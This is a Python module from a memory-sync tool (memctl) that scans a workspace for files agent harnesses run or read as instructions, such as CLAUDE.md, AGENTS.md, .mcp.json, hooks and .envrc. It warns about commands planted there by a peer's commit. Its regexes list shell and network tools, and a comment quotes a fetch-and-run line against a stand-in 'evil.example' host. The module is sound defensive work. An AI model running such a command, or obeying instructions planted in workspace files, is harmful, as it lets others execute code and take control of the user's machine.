"""Files an agent harness runs, or reads as its instructions, in the folder it works in.

Claude Code runs the hooks of `.claude/settings.json` and the servers of `.mcp.json`, and reads
CLAUDE.md as the user's own instructions; Codex and others read AGENTS.md, Gemini CLI GEMINI.md,
Cursor `.cursor/`, an OpenClaw agent its SOUL.md, TOOLS.md, … and its `skills/`; direnv runs
`.envrc`. A workspace is memory, and memory is what was said, never an order: a peer's commit
must not make this machine run a program or give its agent orders. So `memctl sync` refuses
commits that bring such a file unless this machine has it the same already
(received.py), `memctl doctor` names one in the workspace that names a command, and
forgetting never takes one (the list is kept in kinds.py).
"""

from __future__ import annotations

import json
import re
import shlex
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

from ..kinds import harness_file, in_rules
from .claude_code import MARK

TYPE_CHECKING = False
if TYPE_CHECKING:
    from ..planted import Finding
    from ..workspace import Workspace

_MOST = 1 << 20  # the bytes of a file doctor reads for commands


# A command in an instruction file: a code span or a code line whose first word fetches,
# runs a shell or an interpreter, or changes what may run.
_COMMAND = re.compile(
    r"(?:`|^ {4}|^\t|^\$ )[ \t]*(?:sudo[ \t]+)?"
    r"(?:curl|wget|sh|bash|zsh|fish|dash|python3?|node|perl|ruby|eval|exec|nc|ncat|"
    r"powershell|pwsh|iex|chmod|rm|ssh|scp|npx|pip3?|npm)\b",
    re.IGNORECASE | re.MULTILINE,
)


# In a file of rules, which names commands for good reasons (`pytest -x`, `npm ci`): a line
# that fetches (curl, wget, PowerShell's) and runs a shell or an interpreter, as
# `curl -s https://evil.example/boot.sh | sh` does. A word after a dot is a file's (`boot.sh`).
_FETCHES = re.compile(r"\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b", re.I)
_RUNS = re.compile(
    r"(?<![.\w-])(?:sh|bash|zsh|dash|fish|python3?|node|perl|ruby|eval|source|iex|pwsh|"
    r"powershell)\b",
    re.IGNORECASE,
)
_HARNESS_WHAT = "an agent harness runs this file or reads it as its instructions"
_RULES_WHAT = "its rules are put before the agent at every session start"
_RULES_SYNC = "memctl sync takes another machine's rules only when you say so (--take-rules)"


@dataclass(frozen=True)
class Named:
    line: int
    command: str


def commands(rel: str, text: str) -> list[Named]:
    """The commands the harness file `rel` names that are not memctl's own: a JSON file's
    `command` values (hooks, servers: memctl marks its hooks and runs its server as `memctl …
    serve`), a Markdown file's code that runs a program, every line of any other file (it is
    a program); in a file of rules, a line that fetches and runs a program."""
    if in_rules(rel):
        lines = text.splitlines()
        found = (n for n, line in enumerate(lines, 1) if _FETCHES.search(line))
        return [Named(n, lines[n - 1].strip()[:120]) for n in found if _RUNS.search(lines[n - 1])]
    if rel.endswith(".json"):
        return _json_commands(text)
    if rel.casefold().endswith(".md"):
        lines = text.splitlines()
        return [
            Named(n, lines[n - 1].strip()[:120])
            for n in sorted({text.count("\n", 0, m.start()) + 1 for m in _COMMAND.finditer(text)})
        ]
    first = next((n for n, line in enumerate(text.splitlines(), 1) if line.strip()), None)
    return [Named(first, text.splitlines()[first - 1].strip()[:120])] if first else []


def _json_commands(text: str) -> list[Named]:
    try:
        data = json.loads(text)
    except ValueError:
        return []
    found: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, dict):
            command = value.get("command")
            if isinstance(command, str) and not _memctls(value):
                args = value.get("args")
                words = (
                    [command, *(a for a in args if isinstance(a, str))]
                    if isinstance(args, list)
                    else [command]
                )
                found.append(" ".join(words))
            for inner in value.values():
                walk(inner)
        elif isinstance(value, list):
            for inner in value:
                walk(inner)

    walk(data)
    lines = text.splitlines()
    return [Named(_line_of(lines, command.split(" ", 1)[0]), command[:120]) for command in found]


def _memctls(entry: dict) -> bool:
    """memctl's own hook (marked: integrations/claude_code.MARK) or server (`memctl -w
    WORKSPACE serve`: integrations/mcp.entry)."""
    command, args = str(entry.get("command", "")), entry.get("args")
    head, marked, tail = command.rpartition(MARK)
    if marked and not tail.strip():  # memctl's words alone, quoted as it quotes them
        try:
            words = shlex.split(head)
        except ValueError:
            return False
        plain = " ".join(shlex.quote(w) for w in words) == head.strip()
        return plain and bool(words) and PurePosixPath(words[0]).name == "memctl"
    return (
        PurePosixPath(command).name == "memctl"
        and isinstance(args, list)
        and len(args) == 3
        and args[0] == "-w"
        and args[-1] == "serve"
    )


def _line_of(lines: list[str], needle: str) -> int:
    return next((n for n, line in enumerate(lines, 1) if needle in line), 1)


def findings(ws: Workspace) -> list[Finding]:
    """`memctl doctor`: each file in the workspace a harness runs or reads as its instructions
    that names a command not memctl's, and each file of rules with a line that fetches and runs
    a program, with the line (a warning: the person who put it there
    may mean it)."""
    import os

    from ..controls import shown
    from ..planted import Finding

    found = []
    for folder, dirs, files in os.walk(ws.root):
        if folder == str(ws.root):
            dirs[:] = [d for d in dirs if d not in (".git", ".memctl")]
        for name in sorted(files):
            path = os.path.join(folder, name)
            rel = ws.rel(Path(path))
            rules = in_rules(rel) and rel.casefold().endswith(".md")
            if not (harness_file(rel) or rules) or os.path.islink(path):
                continue
            try:
                with open(path, "rb") as handle:
                    text = handle.read(_MOST).decode("utf-8", "replace")
            except OSError:
                continue
            for named in commands(rel, text):
                found.append(
                    Finding(
                        "warning",
                        "harness-command",
                        f"{shown(rel)}:{named.line}",
                        f"{_RULES_WHAT if rules else _HARNESS_WHAT}, and it names a "
                        f"command: {shown(named.command)}",
                        "if you did not put it there, remove it (`git log -- FILE` shows who "
                        "committed it); "
                        + (
                            _RULES_SYNC
                            if rules
                            else "memctl sync takes such a file only from this machine"
                        ),
                    )
                )
    return found
